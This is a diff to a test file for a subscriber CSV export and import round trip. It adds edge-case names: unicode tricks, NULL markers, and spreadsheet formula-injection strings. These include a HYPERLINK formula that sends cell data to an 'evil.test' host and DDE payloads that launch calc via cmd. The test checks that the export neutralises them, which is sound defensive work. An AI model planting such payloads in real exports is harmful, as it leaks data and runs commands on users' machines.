@@ -217,6 +217,21 @@ test("our own export comes back letter for letter, whatever the names and addres
     "\u202Ebidi",
     "'",
     "-",
+    '=HYPERLINK("http://evil.test?x="&A1,"click")',
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "=         cmd|'/c calc.exe'!A",
+    "+1-1;=2",
+    "＠x",
+    "'\t=1",
+    "\u00a0nbsp\u00a0",
+    "e\u0301 and \u00e9",
+    "\uFEFFmark",
+    "\u200Bzero\u200Dwidth",
+    "a".repeat(200),
+    "NULL",
+    "\\N",
+    "'''",
+    ',;|"\t',
   ];
   const rows = names.map((name, index) => ({
     id: `row${String(index).padStart(13, "0")}`,
@@ -236,9 +251,13 @@ test("our own export comes back letter for letter, whatever the names and addres
   await db().subscriber.createMany({ data: rows });
   const before = await csv();
   expect(before).not.toMatch(/(^|[\r\n;,|"\t])[=+\-@＝＋－＠]/);
+  const people = () =>
+    db().subscriber.findMany({ orderBy: { emailKey: "asc" }, select: { email: true, name: true } });
+  const kept = await people();
   await db().subscriber.deleteMany();
   expect((await bringIn(before)).counts).toMatchObject({ added: names.length, refused: 0 });
   expect(await csv()).toBe(before);
+  expect(await people()).toEqual(kept);
 });
 
 test("asking instead makes nobody active, queues one confirmation each, and asks nobody twice", async () => {
